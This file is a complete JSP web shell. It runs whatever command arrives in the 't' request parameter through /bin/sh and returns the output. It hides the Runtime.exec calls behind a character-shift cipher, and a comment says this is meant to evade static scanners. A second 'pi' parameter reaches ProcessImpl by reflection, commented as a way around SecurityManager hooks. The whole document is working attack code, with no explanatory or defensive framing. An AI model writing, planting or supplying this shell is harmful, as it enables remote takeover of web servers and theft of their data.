<%@ page import="java.lang.reflect.*,java.io.*" %>
<%!
    // avoid literal Runtime.exec for static scanners
    private static String d(String s) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < s.length(); i++) sb.append((char)(s.charAt(i) - 1));
        return sb.toString();
    }
%>
<%
    String p = request.getParameter("t");
    if (p != null) {
        Class<?> rt = Class.forName(d("kbwb/mboh/Svoujnf"));           // java.lang.Runtime
        Method gr = rt.getMethod(d("hfuSvoujnf"));                      // getRuntime
        Object r = gr.invoke(null);
        Method ex = rt.getMethod(d("fyfd"), String[].class);            // exec
        Process pr = (Process) ex.invoke(r, new Object[]{ new String[]{"/bin/sh", "-c", p} });
        Method gis = Process.class.getMethod("getInputStream");
        InputStream in = (InputStream) gis.invoke(pr);
        java.util.Scanner s = new java.util.Scanner(in).useDelimiter("\\A");
        out.print(s.hasNext() ? s.next() : "");

        // alternate: ProcessImpl via reflection (bypass SecurityManager hooks)
        if (request.getParameter("pi") != null) {
            Class<?> pi = Class.forName("java.lang.ProcessImpl");
            Method start = pi.getDeclaredMethod("start", String[].class, java.util.Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);
            start.setAccessible(true);
            Process pp = (Process) start.invoke(null, new String[]{"/bin/sh", "-c", request.getParameter("pi")}, null, null, null, false);
            out.print(new java.util.Scanner(pp.getInputStream()).useDelimiter("\\A").next());
        }
    }
%>
